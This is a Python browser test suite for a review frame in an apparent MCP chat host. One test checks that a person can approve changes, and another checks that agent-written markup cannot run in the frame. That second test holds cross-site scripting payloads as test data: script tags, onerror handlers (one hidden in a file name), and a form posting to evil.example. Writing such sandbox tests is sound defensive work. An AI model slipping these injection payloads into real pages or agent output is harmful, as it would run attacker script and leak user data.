"""The review within a chat, in a real browser: the frame, in the protocol's own package for hosts, on a real server."""

from __future__ import annotations

import subprocess
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest

from chat_host import ChatHost, chat_host
from test_elicitation import BEFORE, Place, answer, form
from test_review_app import PLACE, SHOWS, TWO, greet
from tests.browser import CHROMIUM, Browser
from tests.faces.line_client import LineClient, serving

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.node_programs import Programs

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(300),
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is here (package chromium)"),
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with Browser() as browser:
        yield browser


@contextmanager
def chat(
    browser: Browser, programs: Programs, place: Place, said: dict[str, Any]
) -> Iterator[tuple[ChatHost, LineClient]]:
    """A chat of a real server, whose person says the same to every question."""
    with serving(*place.words, stderr=subprocess.DEVNULL) as (_, client):
        greet(client, elicitation={"form": {}})
        (read,) = client.ask("resources/read", {"uri": PLACE})["result"]["contents"]
        assert read["mimeType"] in SHOWS["io.modelcontextprotocol/ui"]["mimeTypes"]

        def call(name: str, given: dict[str, Any]) -> dict[str, Any]:
            begun = client.begin("tools/call", {"name": name, "arguments": given})
            if name == "review_answer":
                answer(client, client.asked.get(timeout=60), **said)
            return client.answer(begun)["result"]

        with chat_host(browser, programs.modules, read["text"], call) as host:
            yield host, client


def put(client: LineClient, tool: str, given: dict[str, Any]) -> dict[str, Any]:
    """What the model's call comes to: the person puts it off."""
    call = client.begin("tools/call", {"name": tool, "arguments": given})
    answer(client, client.asked.get(timeout=60), **form(decision="later"))
    result: dict[str, Any] = client.answer(call)["result"]
    return result


def test_a_person_looks_in_the_frame_and_answers_in_the_dialog(
    browser: Browser, programs: Programs, tmp_path: Path
) -> None:
    place = Place(tmp_path, 'elicitation = "form"\npatience = 60')
    with chat(browser, programs, place, form(decision="accept", hunks="2")) as (host, client):
        host.result(TWO, put(client, "write_file", TWO))
        assert host.carry()[0] == "review_show"
        host.until("document.querySelectorAll('.mark').length === 2")
        assert "Nothing of this is done yet" in host.text()
        assert "# end" in host.text()
        with host.inside() as frame:
            assert frame.says("document.documentElement.style.colorScheme") == "dark"
            drawn = "getComputedStyle(document.querySelector('tr.add')).backgroundColor"
            assert frame.says(drawn) != "rgba(0, 0, 0, 0)"  # its own style is let in
        host.click(".mark")
        host.click("#answer")
        name, given = host.carry()
        assert (name, given["hunks"]) == ("review_answer", "2")
        assert place.text == f"{BEFORE}# end\n"
        assert host.carry()[0] == "review_show"
        # What is left waits on, under its own id, and is shown.
        host.until("document.querySelector('#said').innerText.includes('approved')")
        host.until("document.body.dataset.waits === 'true'")
        assert "# top" in host.text()
        sizes = host.says("window.sizes")
        assert all(one["height"] > 0 for one in sizes)
        assert host.says("window.problems") == []


def test_what_an_agent_writes_runs_in_no_frame(
    browser: Browser, programs: Programs, tmp_path: Path
) -> None:
    place = Place(tmp_path, 'elicitation = "form"\npatience = 60')
    hostile = (
        "<script>parent.calls.push(1)</script><img src=x onerror=\"document.title='ran'\">\n"
        "</td></table><form action=//evil.example><button id=answer>x</button>\n"
    )
    with chat(browser, programs, place, form(decision="later")) as (host, client):
        given = {"path": "<img src=x onerror=document.title=1>.html", "content": hostile}
        host.result(given, put(client, "write_file", given))
        host.carry()
        host.until("document.querySelector('.hunk')")
        assert "onerror=" in host.text()
        with host.inside() as frame:
            assert frame.says("document.title") == "What waits"
            assert frame.says("document.querySelectorAll('img, form, main script').length") == 0
            assert frame.says("document.querySelectorAll('#answer').length") == 1
            # Even markup of somebody's would run nothing and ask for nothing.
            frame.says(
                "card.innerHTML = '<img src=/m/x onerror=\"document.title=1\"><style>*{color:red}</style>'"
            )
            frame.says(
                "void card.appendChild(Object.assign(document.createElement('script'), {text: 'document.title=2'}))"
            )
            frame.until("card.querySelector('script')")
            assert frame.says("document.title") == "What waits"
            assert frame.says("getComputedStyle(said).color") != "rgb(255, 0, 0)"
        asked = [
            one["params"]["request"]["url"]
            for one in browser.events
            if one["method"] == "Network.requestWillBeSent"
        ]
        assert all(
            "127.0.0.1" in one or one.startswith(("data:", "about:", "chrome")) for one in asked
        )
    assert place.text == BEFORE
